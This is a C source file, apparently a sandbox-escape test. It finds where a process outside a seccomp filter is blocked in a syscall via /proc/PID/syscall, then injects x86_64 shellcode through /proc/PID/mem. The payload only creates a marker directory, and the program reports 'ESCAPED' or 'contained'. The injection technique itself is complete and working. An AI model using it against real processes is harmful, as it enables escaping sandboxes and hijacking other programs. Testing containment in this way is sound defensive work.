/* Attack: with ptrace and process_vm_* denied, read where a process outside
 * the filter is blocked (/proc/PID/syscall) and write shellcode there through
 * /proc/PID/mem: when its syscall returns it runs mkdir(MARKER) and exits 42.
 * Exit 0 when a write went through.
 *   procmem_escape MARKER [PID...] */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include "targets.h"

#if !defined(__x86_64__)
#error "the shellcode is x86_64; port it to this arch"
#endif

int main(int argc, char **argv) {
  if (argc < 2) { fprintf(stderr, "usage: procmem_escape MARKER [PID...]\n"); return 2; }
  /* lea rdi,[rip+24]; mov esi,0755; mov eax,83 (mkdir); syscall; mov edi,42; mov eax,231 (exit_group); syscall; path */
  unsigned char code[512] = {
    0x48, 0x8d, 0x3d, 24, 0, 0, 0,
    0xbe, 0xed, 0x01, 0, 0,
    0xb8, 83, 0, 0, 0,
    0x0f, 0x05,
    0xbf, 42, 0, 0, 0,
    0xb8, 231, 0, 0, 0,
    0x0f, 0x05,
  };
  size_t len = 31 + strlen(argv[1]) + 1;
  if (len > sizeof code) return 2;
  memcpy(code + 31, argv[1], strlen(argv[1]) + 1);
  pid_t t[256];
  int n = attack_targets(argc, argv, 2, t, 256);
  int wrote = 0;
  for (int i = 0; i < n; i++) {
    char path[64], buf[512];
    snprintf(path, sizeof path, "/proc/%d/syscall", (int)t[i]);
    ssize_t r = -1;
    int e = 0;
    /* Wait (up to 2 s) until the target is blocked in a syscall. */
    for (int tries = 0; tries < 400; tries++) {
      int fd = open(path, O_RDONLY);
      r = fd < 0 ? -1 : read(fd, buf, sizeof buf - 1);
      e = errno;
      if (fd >= 0) close(fd);
      if (r <= 0 || strncmp(buf, "running", 7)) break;
      usleep(5000);
    }
    if (r <= 0) { printf("pid %d: cannot read %s: %s\n", (int)t[i], path, strerror(e)); continue; }
    buf[r] = 0;
    char *last = strrchr(buf, ' ');
    unsigned long pc = last ? strtoul(last + 1, NULL, 16) : 0;
    if (!pc) { printf("pid %d: not blocked in a syscall (%s)\n", (int)t[i], buf); continue; }
    snprintf(path, sizeof path, "/proc/%d/mem", (int)t[i]);
    int fd = open(path, O_RDWR);
    if (fd < 0) { printf("pid %d: cannot open %s for writing: %s\n", (int)t[i], path, strerror(errno)); continue; }
    r = pwrite(fd, code, len, (off_t)pc);
    printf("pid %d: wrote %zd bytes of shellcode at 0x%lx%s%s\n", (int)t[i], r, pc, r < 0 ? ": " : "", r < 0 ? strerror(errno) : "");
    if (r == (ssize_t)len) wrote = 1;
    close(fd);
  }
  printf(wrote ? "ESCAPED\n" : "contained\n");
  return wrote ? 0 : 1;
}
